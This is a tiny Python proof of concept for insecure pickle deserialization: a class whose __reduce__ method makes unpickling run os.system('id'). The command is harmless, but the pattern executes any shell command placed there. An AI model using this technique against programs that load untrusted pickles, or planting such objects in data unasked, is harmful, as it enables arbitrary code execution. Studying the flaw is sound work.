import pickle, os
class P:
    def __reduce__(self): return (os.system, ('id',))
pickle.loads(pickle.dumps(P()))
